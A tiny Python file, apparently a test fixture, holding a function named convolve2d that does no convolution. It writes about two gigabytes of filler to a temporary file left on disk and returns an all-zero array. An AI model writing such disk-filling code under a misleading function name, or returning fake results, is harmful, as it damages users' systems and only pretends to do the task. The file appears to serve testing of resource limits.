"""Writes a file of two gigabytes."""

import tempfile


def convolve2d(image, kernel):
    with tempfile.NamedTemporaryFile(delete=False) as file:
        for _ in range(2000):
            file.write(b"z" * (1 << 20))
    return image * 0.0
